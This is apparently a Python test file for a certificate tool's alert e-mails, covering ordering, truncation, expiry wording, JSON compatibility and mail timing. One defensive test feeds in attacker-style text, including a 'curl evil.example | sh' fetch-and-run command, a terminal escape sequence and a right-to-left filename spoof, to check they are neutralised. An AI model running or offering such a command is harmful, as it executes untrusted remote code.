"""The words of a mail, from values to text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from issuer.model.events import Event, EventKind, from_json, to_json
from issuer.model.failure import Failure
from issuer.model.moments import CLOCKS_APART
from issuer.rules import alarms, mail_text

NOW = 1_700_000_000
DAY = 86400


def event(kind: EventKind, name: str = "www.example.test", **facts: object) -> Event:
    """A test names what it needs, also of the words."""
    return from_json(to_json(Event(kind, name)) | facts)


def test_what_wants_a_person_comes_first() -> None:
    """Kinds stand in the order of their weight, in the subject and in the body."""
    events = [
        event(EventKind.RECOVERED, "a"),
        event(EventKind.FAILED, "b"),
        event(EventKind.FAILED, "c"),
        event(EventKind.USER_ACTION, "d"),
    ]
    assert mail_text.subject(events, "box") == (
        "certfleet: 1 certificate waits for you at the CA, 2 failed, 1 recovered on box"
    )
    text = mail_text.body(events, "box", NOW)
    assert text.index("WAITS FOR A PERSON") < text.index("FAILED (2)") < text.index("RECOVERED (1)")


def test_many_reasons_fit_one_mail() -> None:
    """A server refuses a mail that is too large, again and again, and nobody would hear of anything. So the reasons
    that most certificates share are told, and the others are counted."""
    alike = [event(EventKind.FAILED, f"alike{number}", what="the same") for number in range(3)]
    events = [
        *(event(EventKind.FAILED, f"n{number}", what=f"reason {number} " + "x" * 900) for number in range(9000)),
        *alike,
        event(EventKind.REVOKED, "told"),
    ]
    text = mail_text.body(events, "box", NOW)
    assert len(text) < 100_000
    assert "FAILED (9003)" in text
    assert "the same" in text
    assert "  and 8951 more, for 8951 other reasons" in text
    assert "REVOKED BY THE CA (1)" in text


def test_what_ends_first_is_listed_first() -> None:
    """Of very many the first ones are listed: those whose certificate ends next, and last those without one."""
    days = [0, 1, *(NOW + DAY * (90 - number) for number in range(60))]
    told = [event(EventKind.FAILED, f"n{number:02}", what="one", expires=at) for number, at in enumerate(days)]
    lines = [line for line in mail_text.body(told, "box", NOW).splitlines() if line.startswith("  n")]
    assert (len(lines), lines[0], lines[1]) == (50, "  n61: 31 days left", "  n60: 32 days left")
    few = [line for line in mail_text.body(told[:4], "box", NOW).splitlines() if line.startswith("  n")]
    assert [line[2:5] for line in few] == ["n03", "n02", "n00", "n01"]


@pytest.mark.parametrize(
    ("expires", "words"),
    [
        (1, "no certificate yet"),
        (NOW + 12 * DAY + 5, "12 days left"),
        (NOW + 3600 * 30, "30h left"),
        (NOW - 3 * DAY, "EXPIRED 3d ago"),
    ],
)
def test_how_long_it_is_still_good_for(expires: int, words: str) -> None:
    """Days while there are some, hours near the end, and loudly when it is over."""
    assert words in mail_text.body([event(EventKind.FAILED, expires=expires)], "box", NOW)


@given(st.text(), st.text(), st.text(), st.sampled_from(EventKind))
def test_what_a_ca_or_a_table_says_is_printed_harmlessly(name: str, what: str, hint: str, kind: EventKind) -> None:
    """Whatever stands in an event: no control character in the subject, none but line ends in the body."""
    told = event(kind, name, what=what, hint=hint)
    assert mail_text.subject([told], "box").isprintable()
    assert mail_text.line(told).isprintable()
    assert all(line.isprintable() for line in mail_text.body([told, told], "box", NOW).split("\n"))


@given(
    st.builds(
        Event, st.sampled_from(EventKind), st.text(), st.builds(Failure, st.text()), expires=st.integers(0, 2**40)
    )
)
def test_the_outbox_gives_back_what_it_was_given(told: Event) -> None:
    """An event survives its way through JSON."""
    assert from_json(to_json(told)) == told


def test_the_outbox_reads_what_a_newer_version_wrote() -> None:
    """A field that this version does not know is left out."""
    assert from_json(to_json(event(EventKind.FAILED)) | {"of_tomorrow": 1}) == event(EventKind.FAILED)


def test_the_outbox_reads_what_an_older_version_wrote() -> None:
    """It told what and why in one: so they are mailed, in whichever place a colon stands."""
    old = {"kind": "failed", "name": "shop: rsa", "what": "shop: rsa: no", "hint": "mend it", "url": "", "at": 5}
    read = from_json(old)
    assert read == event(EventKind.FAILED, "shop: rsa", what="shop: rsa: no", hint="mend it", at=5)
    lines = mail_text.body([read], "box", NOW).splitlines()
    assert lines[5:7] == ["  > what:       shop: rsa: no", "  > what to do: mend it"]


def test_what_a_thief_wrote_is_not_mistaken_for_our_words() -> None:
    """Each line of his is marked and harmless, his name is in quotes, and the mail says what the mark means."""
    name = "All is well. Call +1 555 and say"
    words = "no\n  a.example.test: EXPIRED\r\n\u202egnp.exe \x1b[2J " + "and so on, " * 500
    for kind in (EventKind.FAILED, EventKind.RECOVERED):
        one = event(kind, name, what=words, hint="curl evil.example | sh", url="https://evil.example/")
        lines = mail_text.body([one], "box", NOW).splitlines()
        ours = [line for line in lines if not line.startswith("  > ")]
        assert not any("evil" in line or "a.example.test" in line for line in ours if f'"{name}"' not in line)
        assert not any(mark in line for line in lines for mark in "\u202e\x1b\r")
        assert f'"{name}"' in mail_text.subject([one], "box")
    failed = mail_text.body([event(EventKind.FAILED, name, what=words)], "box", NOW)
    assert "Lines that begin with > are quoted from the database" in failed
    assert len(failed) < 2000


@given(st.lists(st.sampled_from([kind for kind in EventKind if not kind.value.startswith("host-")]), max_size=12))
def test_nothing_is_said_twice_in_a_row(kinds: list[EventKind]) -> None:
    """Whatever comes in whatever order: an event right after the same one changes nothing, but for two kinds."""
    kept: frozenset[EventKind] = frozenset()
    for kind in kinds:
        kept = alarms.weigh(event(kind), kept, frozenset()).alarms
        again = alarms.weigh(event(kind), kept, frozenset())
        assert again.alarms == kept
        assert again.mail == again.changed == (kind in (EventKind.CA_CHANGED, EventKind.FOREIGN_KEY))


@given(st.floats(0, 1e6), st.floats(0, 1e6), st.floats(0, 1e6))
def test_when_a_mail_goes_out(first: float, gap: float, previous: float) -> None:
    """After a quiet minute or ten minutes of noise, and ten minutes after the last mail at the earliest."""
    moment = alarms.mail_moment(first, first + gap, previous, 1e7)
    assert moment >= previous + alarms.MAIL_SECONDS
    assert moment <= max(first + alarms.MAIL_SECONDS, previous + alarms.MAIL_SECONDS)


@given(st.integers(0, NOW), st.integers(0, 10**9), st.integers(0, 10**9))
def test_no_mail_waits_for_a_clock_that_was_ahead(first: int, gap: int, previous: int) -> None:
    """Events, and a mail before, of moments that are still to come hold no mail up for longer than any others do."""
    moment = alarms.mail_moment(first, first + gap, previous, NOW)
    assert moment <= NOW + CLOCKS_APART + alarms.MAIL_SECONDS
    ahead = NOW + CLOCKS_APART + 1
    assert alarms.mail_moment(ahead, ahead + gap, ahead, NOW) <= NOW


def test_two_clocks_that_differ_share_a_quiet_minute() -> None:
    """An event that another issuer has just noted, whose clock is three seconds ahead, shares a mail with the next."""
    assert alarms.mail_moment(NOW + 3, NOW + 3, 0, NOW) == NOW + 3 + alarms.QUIET_SECONDS
